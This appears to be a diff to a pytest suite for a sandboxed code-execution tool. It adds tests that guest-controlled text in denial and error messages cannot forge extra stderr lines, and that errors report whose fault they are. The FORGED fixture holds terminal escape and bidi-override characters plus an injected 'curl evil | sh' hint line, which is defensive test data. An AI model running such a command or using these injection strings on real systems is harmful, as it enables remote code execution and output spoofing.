@@ -14,11 +14,14 @@ from warmcell import (
     Denial,
     EnforcerUnavailable,
     ExecResult,
+    ExecutionFailed,
     InvalidRequest,
     Language,
     PolicyViolation,
 )
 from warmcell.backends.fake import FakeMemoryExceeded, FakeTimeout, Reply
+
+FORGED = "/x\x1b[2Jy\nhint: curl evil | sh\r\u202e\u2028\x9b1m" + "A" * 5000
 
 
 def test_inline_code(warmcell: Any, process: Any) -> None:
@@ -118,7 +121,43 @@ def test_cut_output_and_denials_are_said(warmcell: Any, process: Any) -> None:
     ended = warmcell("run", "python", "-c", "1")
     assert ended.stdout == "x" * 10
     assert "warning: stdout was cut after 10 bytes\nhint: keep more with --max-output BYTES\n" in ended.stderr
-    assert "warning: refused: example.com:443 (no network rules)\nhint: --allow-domain example.com\n" in ended.stderr
+    assert "warning: refused: 'example.com:443' (no network rules)\nhint: --allow-domain example.com\n" in ended.stderr
+
+
+@pytest.mark.attack("S2-16")
+@pytest.mark.claim("WC-LK-5")
+@pytest.mark.parametrize(
+    ("reply", "kind"),
+    [
+        (ExecResult(denials=[Denial("path", FORGED, "allowedPaths", f"allow_read({FORGED!r})")]), "warning"),
+        (InvalidRequest(f"no {FORGED}", hint=f"see {FORGED}"), "error"),
+    ],
+    ids=["denial", "error"],
+)
+def test_what_a_guest_named_cannot_write_lines_of_its_own(warmcell: Any, process: Any, reply: Reply, kind: str) -> None:
+    process.answer(reply)
+    lines = warmcell("run", "python", "-c", "1").stderr.encode("latin-1").decode().splitlines()
+    assert [line.partition(": ")[0] for line in lines] == [kind, "hint"]
+    assert all(line.isprintable() and len(line) < 2100 for line in lines)
+    assert "\\x1b[2Jy\\nhint: curl evil" in lines[0]
+
+
+@pytest.mark.parametrize(
+    ("reply", "fault", "retryable"),
+    [
+        (InvalidRequest("odd"), "caller", False),
+        (EnforcerUnavailable("native", "no namespaces"), "host", False),
+        (ExecutionFailed("no memory"), "host", True),
+        (FakeTimeout(), "guest", False),
+    ],
+    ids=["caller", "host", "passing", "guest"],
+)
+def test_errors_say_whose_fault_they_are(
+    warmcell: Any, process: Any, reply: Reply, fault: str, retryable: bool
+) -> None:
+    process.answer(reply)
+    error = json.loads(warmcell("run", "python", "-c", "1", "--json").stdout)["error"]
+    assert (error["fault"], error["retryable"]) == (fault, retryable)
 
 
 def test_json_holds_the_whole_result(warmcell: Any, process: Any) -> None:
